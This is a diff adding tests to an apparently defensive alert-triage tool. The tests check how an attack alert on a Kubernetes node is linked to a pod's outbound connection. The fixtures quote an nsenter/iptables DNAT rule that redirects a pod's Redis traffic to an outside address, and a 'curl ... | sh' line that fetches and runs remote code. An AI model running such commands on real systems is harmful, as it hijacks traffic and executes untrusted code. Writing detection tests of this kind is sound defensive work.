@@ -82,4 +82,25 @@ describe('alerts of one incident', () => {
   it('without a first pass (stdin, large exports) nothing is linked', () => {
     expect(triageAlert(nodeFlow('15:06:40'), { index }).verdict).toMatchObject({ label: 'genuine', cause: 'unexplained' });
   });
+  // eks-calico-ambient: a NAT rule written from the host into a pod's network namespace sends its Redis traffic outside;
+  // the NDR sees that pod's connection to the address the rule named.
+  const hijack = alert({
+    host: N1,
+    time: at('10:47:12'),
+    process: { name: 'nsenter', commandLine: 'nsenter -t 188213 -n iptables -t nat -I OUTPUT -p tcp --dport 6379 -j DNAT --to-destination 203.0.113.77:6379' },
+    ancestors: [{ name: 'bash', commandLine: 'bash' }],
+  });
+  const podFlow = (time: string, dstIp: string) => alert({ host: N1, time: at(time), title: 'ET POLICY Redis Outbound to External Network', network: { srcIp: '10.0.1.24', srcPort: 33012, dstIp, dstPort: 6379 } });
+  it("a pod's connection to the outside address an attack on its node named is part of that attack", () => {
+    const [nat, flow] = run([hijack, podFlow('10:47:31', '203.0.113.77')]);
+    expect(nat).toMatchObject({ label: 'genuine', cause: 'attack' });
+    expect(flow).toMatchObject({ label: 'genuine', cause: 'attack' });
+    expect(flow.reasons[0].message).toMatch(/which named 203\.0\.113\.77, this connection's destination, this alert 19 s after it/);
+  });
+  it('trap: another outside address, the same address outside the window, or a private address named by the attack stay unexplained', () => {
+    expect(run([hijack, podFlow('10:47:31', '198.51.100.9')])[1]).toMatchObject({ label: 'genuine', cause: 'unexplained' });
+    expect(run([hijack, podFlow('11:30:00', '203.0.113.77')])[1]).toMatchObject({ label: 'genuine', cause: 'unexplained' });
+    const inside = alert({ host: N1, time: at('10:47:12'), process: { name: 'iptables', commandLine: 'iptables -t nat -I OUTPUT -p tcp --dport 6379 -j DNAT --to-destination 10.0.1.24:6379; curl http://203.0.113.9/x | sh' } });
+    expect(run([inside, podFlow('10:47:31', '10.0.1.24')])[1].reasons.some((r) => r.rule === 'same-incident')).toBe(false);
+  });
 });
